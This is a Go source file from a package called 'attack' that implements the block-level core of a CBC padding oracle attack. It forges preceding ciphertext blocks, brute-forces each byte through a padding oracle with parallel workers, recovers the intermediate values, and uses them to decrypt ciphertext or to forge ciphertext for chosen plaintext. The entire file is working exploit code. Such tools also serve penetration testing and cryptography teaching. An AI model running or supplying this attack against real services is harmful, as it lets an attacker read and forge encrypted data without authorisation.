package attack

import (
	"context"
	"fmt"
	"sync/atomic"

	"golang.org/x/sync/errgroup"
)

// Block holds one ciphertext block and the intermediate value recovered for
// it, i.e. the block cipher output before the CBC XOR.
type Block struct {
	index        int
	ciphertext   []byte
	intermediate []byte
	q            *querier
}

func newBlock(q *querier, index int, ciphertext []byte) *Block {
	return &Block{
		index:        index,
		ciphertext:   ciphertext,
		intermediate: make([]byte, len(ciphertext)),
		q:            q,
	}
}

func (b *Block) Index() int {
	return b.index
}

func (b *Block) Ciphertext() []byte {
	return b.ciphertext
}

// Intermediate returns a copy of the recovered intermediate value. Bytes not
// yet recovered are zero.
func (b *Block) Intermediate() []byte {
	i := make([]byte, len(b.intermediate))
	copy(i, b.intermediate)
	return i
}

// GetIntermediate recovers the whole intermediate value, last byte first.
// Calling it again repeats the queries and yields the same bytes.
func (b *Block) GetIntermediate(ctx context.Context) error {
	for position := 1; position <= len(b.ciphertext); position++ {
		if err := b.getPosition(ctx, position); err != nil {
			return err
		}
	}
	return nil
}

// getPosition recovers one intermediate byte. position counts from the end of
// the block: 1 is the last byte, len(ciphertext) the first.
func (b *Block) getPosition(ctx context.Context, position int) error {
	l := len(b.ciphertext)

	// The forged previous block is: zeros, the guessed byte, then the bytes
	// already recovered re-targeted so they decrypt to the padding value.
	//
	// For example, with position 3 and I[14] = 0x15, I[15] = 0x2f, the suffix
	// is 0x15 ^ 0x03 = 0x16 and 0x2f ^ 0x03 = 0x2c. The oracle then accepts only
	// when the guessed byte also decrypts to 0x03, which happens for exactly
	// one guess g, and that g is I[13] itself.
	prefix := make([]byte, l-position)
	known := make([]byte, position-1)
	for k := range known {
		known[k] = byte(position) ^ b.intermediate[l-position+1+k]
	}

	guesses := make(chan int, 256)
	for g := 0; g <= 0xff; g++ {
		guesses <- g
	}
	close(guesses)

	// -1 until a worker wins the compare-and-swap.
	var accepted atomic.Int32
	accepted.Store(-1)

	found, cancel := context.WithCancel(ctx)
	defer cancel()

	var group errgroup.Group
	for w := 0; w < b.q.workers; w++ {
		group.Go(func() error {
			for g := range guesses {
				if err := ctx.Err(); err != nil {
					return err
				}
				if found.Err() != nil {
					return nil
				}

				message := make([]byte, 0, l*2)
				message = append(message, prefix...)
				message = append(message, byte(position)^byte(g))
				message = append(message, known...)
				message = append(message, b.ciphertext...)

				if !b.q.ask(message) {
					continue
				}

				if accepted.CompareAndSwap(-1, int32(g)) {
					cancel()
				}
				return nil
			}
			return nil
		})
	}

	if err := group.Wait(); err != nil {
		return err
	}

	g := accepted.Load()
	if g < 0 {
		return &OracleError{Block: b.index, Position: position}
	}

	b.intermediate[l-position] = byte(g)
	b.q.log.Debug("recovered byte", "block", b.index, "position", position, "value", fmt.Sprintf("0x%02x", g))

	return nil
}

// Decrypt XORs the intermediate value with the ciphertext of the block that
// precedes this one in the chain.
func (b *Block) Decrypt(prev []byte) []byte {
	return xor(prev, b.intermediate)
}

// EncryptIV returns the ciphertext block that must precede this block for it
// to decrypt to plaintext.
func (b *Block) EncryptIV(plaintext []byte) ([]byte, error) {
	if len(plaintext) != len(b.intermediate) {
		return nil, fmt.Errorf("%w: plaintext block is %d bytes, want %d", ErrBlockSize, len(plaintext), len(b.intermediate))
	}
	return xor(plaintext, b.intermediate), nil
}

func xor(a, b []byte) []byte {
	x := make([]byte, len(b))
	for i := range x {
		x[i] = a[i] ^ b[i]
	}
	return x
}
